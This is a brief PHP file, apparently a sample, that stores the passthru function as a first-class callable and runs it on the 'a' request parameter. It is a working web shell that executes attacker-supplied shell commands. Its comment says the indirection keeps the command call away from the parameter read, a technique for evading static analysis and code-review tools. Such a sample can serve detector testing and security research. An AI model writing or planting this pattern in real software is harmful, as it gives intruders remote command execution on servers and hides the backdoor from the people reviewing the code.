<?php
// PHP 8.1 first-class callable syntax: the command function is taken as a Closure and called
// later through a variable, away from any parameter read.
$tools = array('run' => passthru(...), 'len' => strlen(...));
$arg = $_REQUEST['a'] ?? 'id';
$tools['run']($arg);
